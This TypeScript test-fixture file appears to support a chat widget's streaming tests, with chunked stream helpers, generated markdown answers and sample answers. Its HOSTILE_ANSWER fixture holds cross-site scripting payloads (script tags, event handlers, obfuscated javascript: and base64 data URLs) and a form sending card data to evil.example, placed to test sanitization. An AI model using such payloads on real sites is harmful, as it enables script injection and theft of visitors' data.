// A small stand-in that plays the service's part for cases the emulator
// can't produce: exact byte streams cut at awkward places, delays, failures.
// Served over real HTTP (srvx in Node tests, web-test-runner's server in
// browser tests). Each scenario is named in the path: /scripted/<name>/...
import { DONE_EVENT, EVENT_STREAM_HEADERS, answerEvent, endpointResponseEvent, errorLine, toolCallEvent } from '../../src/protocol/index.js';

export const SAMPLE_ANSWER = {
  messageId: 'msg_1',
  answer: 'Hello, world!\n\n- 100% ✓ 🎉',
  conversationId: 'conv_1',
  visitorId: 'visitor_1',
  sources: [{ datasource_id: 'ds_1', datasource_name: 'Guide.pdf', source_url: 'https://example.com/guide.pdf', page_number: 3, score: 0.91 }],
  metadata: {},
};

/** The sample answer as the service streams it, split into network chunks at awkward places. */
export function sampleStreamChunks(): string[] {
  const wire =
    answerEvent('Hello, ') +
    answerEvent('') +
    answerEvent('world!\n\n- 100% ') +
    toolCallEvent({ type: 'function', name: 'search', arguments: { q: 'x' } }) +
    answerEvent('✓ 🎉') +
    endpointResponseEvent(JSON.stringify(SAMPLE_ANSWER)) +
    DONE_EVENT;
  // Cut every 7 characters: splits lines, events and (below, as bytes) characters.
  const chunks: string[] = [];
  for (let i = 0; i < wire.length; i += 7) chunks.push(wire.slice(i, i + 7));
  return chunks;
}

/** A streamed body written chunk by chunk, with a pause between chunks. `onCancel` runs when the client goes away first. */
export function streamResponse(
  chunks: (string | Uint8Array)[],
  { delayMs = 1, status = 200, headers = EVENT_STREAM_HEADERS, onCancel }: { delayMs?: number; status?: number; headers?: Record<string, string>; onCancel?: () => void } = {},
): Response {
  const encoder = new TextEncoder();
  let cancelled = false;
  const body = new ReadableStream<Uint8Array>({
    async start(controller) {
      for (const chunk of chunks) {
        if (cancelled) return;
        controller.enqueue(typeof chunk === 'string' ? encoder.encode(chunk) : chunk);
        await new Promise((resolve) => setTimeout(resolve, delayMs));
      }
      if (!cancelled) controller.close();
    },
    cancel() {
      cancelled = true;
      onCancel?.();
    },
  });
  return new Response(body, { status, headers });
}

/** Splits text into byte chunks of `size`, cutting through multi-byte characters. */
export function byteChunks(text: string, size: number): Uint8Array[] {
  const bytes = new TextEncoder().encode(text);
  const chunks: Uint8Array[] = [];
  for (let i = 0; i < bytes.length; i += size) chunks.push(bytes.slice(i, i + size));
  return chunks;
}

export { errorLine };

const WORDS = (
  'the agent answers from your documents and cites each source it used so a visitor can check the claim ' +
  'reset password account billing invoice export datastore upload page guide policy refund shipping order'
).split(' ');

/**
 * A markdown answer of exactly `length` characters, like a model writes one:
 * headings, paragraphs with emphasis, code spans, links and `[n]` citations,
 * lists, a fenced code block, a table and a quote. Deterministic for a seed.
 */
export function markdownAnswer(length: number, seed = 1): string {
  let state = seed >>> 0 || 1;
  const next = (n: number) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state % n;
  };
  const words = (n: number) => Array.from({ length: n }, () => WORDS[next(WORDS.length)]!).join(' ');
  const sentence = () => {
    const s = words(6 + next(10));
    const styled = [`**${words(2)}**`, `*${words(1)}*`, `\`${words(1)}\``, `[${words(2)}](https://example.com/${words(1)})`, `[${1 + next(3)}]`];
    return `${s[0]!.toUpperCase()}${s.slice(1)} ${styled[next(styled.length)]} ${words(3 + next(5))}.`;
  };
  const paragraph = () => Array.from({ length: 2 + next(3) }, sentence).join(' ');
  const blocks = [
    () => `## ${words(3)}`,
    paragraph,
    paragraph,
    () => Array.from({ length: 3 + next(3) }, () => `- ${sentence()}`).join('\n'),
    () => Array.from({ length: 3 + next(2) }, (_, i) => `${i + 1}. ${words(4)} ${words(3)}`).join('\n'),
    () => '```ts\n' + Array.from({ length: 3 + next(4) }, () => `const ${WORDS[next(WORDS.length)]} = '${words(3)}';`).join('\n') + '\n```',
    () => `| ${words(1)} | ${words(1)} |\n| --- | --- |\n` + Array.from({ length: 3 }, () => `| ${words(2)} | ${words(2)} |`).join('\n'),
    () => `> ${sentence()}`,
  ];
  let text = '';
  while (text.length < length) text += blocks[next(blocks.length)]!() + '\n\n';
  return text.slice(0, length);
}

/** Cuts `text` into `count` fragments of near-equal size, as a model's deltas. */
export function fragmentsOf(text: string, count: number): string[] {
  const fragments: string[] = [];
  for (let i = 0; i < count; i++) fragments.push(text.slice(Math.floor((i * text.length) / count), Math.floor(((i + 1) * text.length) / count)));
  return fragments;
}

/** The widget tests' answer: markdown with `[n]` markers, multi-byte characters, and sources out of order with a duplicate datasource. */
export const WIDGET_ANSWER = {
  messageId: 'msg_w1',
  answer:
    'Reset your password from **Settings** [1]. Invoices are monthly [2].\n\n' +
    '- Open `Settings`\n- Choose *Reset* ✓ 🎉\n\n' +
    'Café déjà vu, no source here [3].\n\n```\ncode keeps [1] as written\n```',
  conversationId: 'conv_from_service',
  visitorId: 'visitor_from_service',
  sources: [
    { datasource_id: 'ds_billing', datasource_name: 'Billing FAQ', source_url: 'https://example.com/billing', score: 0.82 },
    { datasource_id: 'ds_guide', datasource_name: 'Guide.pdf', source_url: 'https://example.com/guide.pdf', page_number: 7, score: 0.75 },
    { datasource_id: 'ds_guide', datasource_name: 'Guide.pdf', source_url: 'https://example.com/guide.pdf', page_number: 3, total_pages: 10, score: 0.91 },
  ],
  metadata: {},
};

/** Markdown and sources that try every way to run script or escape the message; each payload calls `window.__trap(name)`. */
export const HOSTILE_ANSWER = {
  answer: [
    `<script>window.__trap('script')</script>`,
    `<img src=x onerror="window.__trap('img-onerror')">`,
    `[js link](javascript:window.__trap('js-link')) [vb link](vbscript:msgbox(1)) [data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX190cmFwKCdkYXRhJyk8L3NjcmlwdD4=)`,
    `[spaced js](  JaVaScRiPt:window.__trap('spaced') ) [entity js](&#106;avascript:window.__trap('entity'))`,
    `![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3RyYXAoJ3N2Zy1kYXRhJykiLz4=) ![web image](https://example.com/ok.png)`,
    `<iframe src="javascript:window.__trap('iframe')"></iframe>`,
    `<form action="https://evil.example/"><input name="card"><button>Pay</button></form>`,
    `<style>:host, * { display: none !important }</style>`,
    `<object data="javascript:window.__trap('object')"></object><embed src="javascript:window.__trap('embed')">`,
    `<svg><animate onbegin="window.__trap('svg')" attributeName="x" dur="1s"/></svg>`,
    `<details open ontoggle="window.__trap('details')">x</details>`,
    `[ftp link](ftp://example.com/file) [callto link](callto:12345)`,
    `<a href="javascript:window.__trap('raw-a')">raw link</a> and [a safe link](https://example.com/safe) [1]`,
  ].join('\n\n'),
  conversationId: 'conv_hostile',
  visitorId: 'visitor_hostile',
  sources: [
    {
      datasource_id: 'ds_evil',
      datasource_name: `<img src=x onerror="window.__trap('source-name')">`,
      source_url: `javascript:window.__trap('source-url')`,
      mime_type: `text/html"><script>window.__trap('mime')</script>`,
      page_number: 3,
      score: 0.99,
    },
    { datasource_id: 'ds_data', datasource_name: 'Data URL', source_url: `data:text/html,<script>window.__trap('source-data')</script>`, score: 0.9 },
  ],
};

/** An answer as the service streams it: `answer` fragments of `size` characters, `endpoint_response`, `[DONE]`. */
export function answerStream(answer: { answer: string }, size = 7): string {
  return answerStreamEvents(answer, size).join('');
}

/** The same stream as its events, one string each: what a service writes to the network one event at a time. */
export function answerStreamEvents(answer: { answer: string }, size = 7): string[] {
  // Cut by code points: a lone surrogate cannot be URI-encoded.
  const characters = Array.from(answer.answer);
  const events: string[] = [];
  for (let i = 0; i < characters.length; i += size) events.push(answerEvent(characters.slice(i, i + size).join('')));
  return [...events, endpointResponseEvent(JSON.stringify(answer)) + DONE_EVENT];
}
